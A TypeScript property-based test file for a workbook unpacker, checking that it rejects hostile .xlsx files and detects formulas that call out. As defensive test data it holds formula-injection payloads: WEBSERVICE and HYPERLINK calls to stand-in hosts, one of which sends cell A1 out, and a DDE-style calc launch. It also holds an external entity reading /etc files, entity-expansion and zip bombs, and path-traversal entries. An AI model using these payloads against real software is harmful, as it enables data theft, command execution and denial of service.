import fc from 'fast-check';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { callsOut, WorkbookError } from '../index.ts';
import { unpacked } from '../unpack.ts';

const SHEET = 'xl/worksheets/sheet1.xml';
const sheet = (cells: string, more = ''): string =>
  `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${more}<sheetData><row r="1">${cells}</row></sheetData></worksheet>`;
const cell = (inner: string): string => `<c r="A1">${inner}</c>`;
const book = (parts: Readonly<Record<string, string>>): Uint8Array =>
  zipSync(
    Object.fromEntries(
      Object.entries({ [SHEET]: sheet(cell('<v>1</v>')), ...parts }).map(([name, xml]) => [name, strToU8(xml)]),
    ),
    { level: 1 },
  );

const escapes = { '&': '&amp;', '<': '&lt;', '"': '&quot;' } as const;
const xmlOf = (text: string): string => text.replaceAll(/[&<"]/g, (sign) => escapes[sign as keyof typeof escapes]);
/** Any letter may stand as its number. */
const numbered = (text: string): string =>
  [...text].map((letter) => `&#x${letter.codePointAt(0)?.toString(16)};`).join('');

const words = fc.stringMatching(/^[a-z]{1,12}$/);
const address = words.map((host) => `http://${host}.example/x`);
const calling = fc.oneof(
  address.map((at) => `WEBSERVICE("${at}")`),
  fc.tuple(words, address).map(([word, at]) => `${word.toUpperCase()}(1)+ImportXML ("${at}","//a")`),
  words.map((program) => `${program}|'/c calc'!A0`),
  words.map((file) => `'[${file}.xlsx]Sheet1'!$A$1`),
  words.map((host) => `\\\\${host}\\share\\x`),
  address.map((at) => `HYPERLINK("${at}"&A1)`),
  words.map((of) => `RTD("${of}",,"x")`),
  words.map((of) => `IF(1,IMAGE("${of}"),2)`),
);

/** Each a way of its own in which a workbook is not what a plant brings in. */
const hostile: Readonly<Record<string, fc.Arbitrary<Uint8Array>>> = {
  'a formula that calls out': calling.map((formula) =>
    book({ [SHEET]: sheet(cell(`<f>${xmlOf(formula)}</f><v>1</v>`)) }),
  ),
  'the same, written in numbers': calling.map((formula) =>
    book({ [SHEET]: sheet(cell(`<f t="array">${numbered(formula)}</f>`)) }),
  ),
  'the same, hidden in character data': calling.map((formula) =>
    book({ [SHEET]: sheet(cell(`<f><![CDATA[${formula}]]></f>`)) }),
  ),
  'links to other workbooks': words.map((name) => book({ [`xl/externalLinks/${name}.xml`]: '<externalLink/>' })),
  'data connections': words.map(() => book({ 'xl/connections.xml': '<connections/>' })),
  'an external relationship': address.map((at) =>
    book({
      'xl/_rels/workbook.xml.rels': `<Relationships><Relationship Id="1" Type="x/oleObject" Target="${at}" TargetMode="External"/></Relationships>`,
    }),
  ),
  'entities that grow': fc.integer({ min: 2, max: 40 }).map((n) => {
    const entities = Array.from({ length: n }, (_, at) => `<!ENTITY e${at} "${`&e${at - 1};`.repeat(10)}">`).join('');
    return book({ [SHEET]: `<!DOCTYPE x [${entities}]>${sheet(cell(`<v>&e${n - 1};</v>`))}` });
  }),
  'an entity of elsewhere': words.map((name) =>
    book({ 'docProps/core.xml': `<!DOCTYPE x SYSTEM "file:///etc/${name}"><x/>` }),
  ),
  'a cell beyond all rows': fc
    .integer({ min: 200_000, max: 2 ** 31 })
    .map((row) => book({ [SHEET]: sheet(`<c r="A${row}"><v>1</v></c>`) })),
  'a cell beyond all columns': fc
    .stringMatching(/^[B-Z][A-Z]{2,4}$/)
    .map((column) => book({ [SHEET]: sheet(`<c r="${column}1"><v>1</v></c>`) })),
  'wrong dimensions': fc
    .integer({ min: 200_000, max: 1_048_576 })
    .map((row) => book({ [SHEET]: sheet(cell('<v>1</v>'), `<dimension ref="A1:XFD${row}"/>`) })),
  'texts that are not there': fc
    .nat(1_000_000)
    .map((nth) => book({ [SHEET]: sheet(`<c r="A1" t="s"><v>${nth}</v></c>`) })),
  'texts by no number': words.map((nth) =>
    book({
      [SHEET]: sheet(`<c r="A1" t="s"><v>${nth}</v></c>`),
      'xl/sharedStrings.xml': '<sst><si><t>x</t></si></sst>',
    }),
  ),
  'names that lead out': words.map((name) => book({ [`xl/../../${name}.xml`]: '<x/>' })),
  'another encoding': fc
    .constantFrom('utf-16', 'UTF-7', 'iso-8859-1')
    .map((encoding) => book({ 'xl/styles.xml': `<?xml version="1.0" encoding="${encoding}"?><x/>` })),
  'a cut-off file': fc.integer({ min: 4, max: 90 }).map((share) => {
    const whole = book({});
    return whole.subarray(0, Math.max(4, Math.floor((whole.length * share) / 100)));
  }),
  'no workbook at all': fc.uint8Array({ minLength: 0, maxLength: 300 }).filter(([a, b]) => a !== 0x50 || b !== 0x4b),
};

describe('a hostile workbook is refused with the reason', () => {
  const EACH = 250;
  for (const [what, files] of Object.entries(hostile))
    test(what, () => {
      fc.assert(
        fc.property(files, (bytes) => {
          expect(() => unpacked(bytes)).toThrow(WorkbookError);
        }),
        { numRuns: EACH },
      );
    });

  test('bytes that are changed anywhere are read or refused, and nothing else happens', () => {
    const whole = book({ 'xl/sharedStrings.xml': '<sst><si><t>text</t></si></sst>' });
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { minLength: 1, maxLength: 8 }),
        (changes) => {
          const bytes = new Uint8Array(whole);
          for (const [at, value] of changes) bytes[at] = value;
          try {
            unpacked(bytes);
          } catch (error) {
            expect(error).toBeInstanceOf(WorkbookError);
          }
        },
      ),
      { numRuns: 1_000 },
    );
  });

  test('what unpacks to gigabytes, or to millions of empty cells, is refused before it is', () => {
    const zeros = zipSync({ [SHEET]: new Uint8Array(80 * 1024 * 1024) }, { level: 9 });
    expect(zeros.length).toBeLessThan(200_000);
    expect(() => unpacked(zeros)).toThrow(/unpacks to more than 64 MB/);
    const empty = book({ [SHEET]: sheet('<c/>'.repeat(2_000_001)) });
    expect(() => unpacked(empty)).toThrow(/more than 2000000 cells/);
    const many = zipSync(
      Object.fromEntries(Array.from({ length: 1_001 }, (_, at) => [`a${at}.xml`, new Uint8Array(0)])),
    );
    expect(() => unpacked(many)).toThrow(/more than 1000 files/);
  });
});

describe('what people write', () => {
  test('is no formula that calls out', () => {
    const plain = [
      '=A1+B1',
      '=SUM(A1:A9)',
      '-12.5',
      '+880 1711-000000',
      '@home',
      '=IF(A1="a|b",1,2)',
      '=Sheet2!A1',
      'see http://example.com',
      "='My sheet'!B2",
    ];
    for (const one of plain) expect([one, callsOut(one)]).toEqual([one, false]);
    fc.assert(
      fc.property(calling, (formula) => {
        expect(callsOut(`=${formula}`)).toBe(true);
      }),
    );
  });
});
